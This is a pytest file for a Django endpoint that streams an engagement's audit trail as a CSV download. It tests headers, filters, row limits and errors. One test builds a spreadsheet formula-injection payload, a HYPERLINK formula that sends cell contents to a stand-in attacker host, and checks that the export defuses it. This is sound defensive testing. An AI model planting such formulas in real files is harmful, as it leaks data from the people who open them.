"""GET /api/engagements/{id}/activity/export/: the filtered trail as a streamed CSV that a
spreadsheet opens safely, at most EXPORT_MAX_ROWS rows."""

import csv
import io
import json

import pytest
from django.http import StreamingHttpResponse

from maestro.audit import export
from maestro.audit.events import AuditEvent
from maestro.audit.services import Actor
from maestro.lib.csv_export import csv_safe
from tests.audit.factories import record
from tests.conftest import client_for

pytestmark = pytest.mark.django_db


def url(engagement, query=""):
    return f"/api/engagements/{engagement.pk}/activity/export/{query}"


def rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.content
    assert isinstance(response, StreamingHttpResponse)
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


def test_the_export_is_a_csv_download_of_the_entries_newest_first(world):
    engagement = world.engagement_a
    first = record(AuditEvent.PHASE_CHANGED, engagement=engagement, target=engagement)
    second = record(
        AuditEvent.TASK_ESCALATED,
        engagement=engagement,
        actor=Actor.system("escalation sweep"),
        target=world.operator_a,
        changes={"assignee": ("Olivia", "Omar")},
        data={"note": "Late"},
    )

    r = client_for(world.sponsor_a).get(url(engagement))

    assert r["Content-Type"] == "text/csv; charset=utf-8"
    assert r["Content-Disposition"].startswith(
        f'attachment; filename="activity-engagement-{engagement.pk}-'
    )
    assert r["X-Export-Truncated"] == "false"
    header, *body = rows(r)
    assert header == export.HEADER
    assert [row[1] for row in body] == ["task.escalated", "engagement.phase_changed"]
    escalated = dict(zip(header, body[0], strict=True))
    assert escalated == {
        "at": second.at.isoformat(),
        "event": "task.escalated",
        "event_label": "Review task escalated",
        "actor_kind": "system",
        "actor": "escalation sweep",
        "actor_user_id": "",
        "actor_key_id": "",
        "client_id": str(world.client_a.pk),
        "engagement_id": str(engagement.pk),
        "object_type": "tenancy.User",
        "object_id": str(world.operator_a.pk),
        "object": str(world.operator_a),
        "changes": '{"assignee": ["Olivia", "Omar"]}',
        "details": '{"note": "Late"}',
    }
    assert dict(zip(header, body[1], strict=True))["actor_user_id"] == str(first.actor_user_id)


def test_the_export_takes_the_lists_filters(world):
    engagement = world.engagement_a
    record(AuditEvent.PHASE_CHANGED, engagement=engagement)
    record(AuditEvent.TASK_RESOLVED, engagement=engagement, actor=world.operator_a)
    body = rows(client_for(world.consultant).get(url(engagement, "?event=task.resolved")))[1:]
    assert [row[1] for row in body] == ["task.resolved"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_a_spreadsheet_would_run_are_defused(world, start):
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
    record(
        engagement=world.engagement_a,
        actor=Actor.system(formula),
        target=world.engagement_a,
        changes={"name": ("a", "b")},
    )
    body = rows(client_for(world.consultant).get(url(world.engagement_a)))[1:]
    actor = body[0][export.HEADER.index("actor")]
    assert actor == "'" + formula
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in body[0])


def test_safe_cells_are_left_alone():
    assert [csv_safe(v) for v in ("Olivia", "a=b", "", None, 12, "'quoted")] == [
        "Olivia",
        "a=b",
        "",
        "",
        "12",
        "'quoted",
    ]


def test_at_most_the_row_limit_and_the_header_says_so(world, monkeypatch):
    monkeypatch.setattr(export, "EXPORT_MAX_ROWS", 2)  # 50,000 in the product
    entries = [record(engagement=world.engagement_a) for _ in range(3)]
    r = client_for(world.consultant).get(url(world.engagement_a))
    assert r["X-Export-Truncated"] == "true"
    body = rows(r)[1:]  # the newest two
    assert [row[0] for row in body] == [e.at.isoformat() for e in reversed(entries[1:])]
    r = client_for(world.consultant).get(url(world.engagement_a, "?since=2999-01-01"))
    assert r["X-Export-Truncated"] == "false"


def test_a_bad_filter_is_a_json_400_whatever_the_accept_header(world):
    r = client_for(world.consultant).get(
        url(world.engagement_a, "?since=soon"), HTTP_ACCEPT="text/csv"
    )
    assert r.status_code == 400
    assert r["Content-Type"] == "application/json"
    assert "since" in json.loads(r.content)


@pytest.mark.parametrize("rows_count", [3, 30])
def test_export_queries_do_not_grow_with_the_trail(world, rows_count, django_assert_num_queries):
    for _ in range(rows_count):
        record(engagement=world.engagement_a, target=world.engagement_a)
    api = client_for(world.consultant)
    # the engagement (with its team), the truncation check, the rows (one chunk)
    with django_assert_num_queries(4):
        body = rows(api.get(url(world.engagement_a)))[1:]
    assert len(body) == rows_count
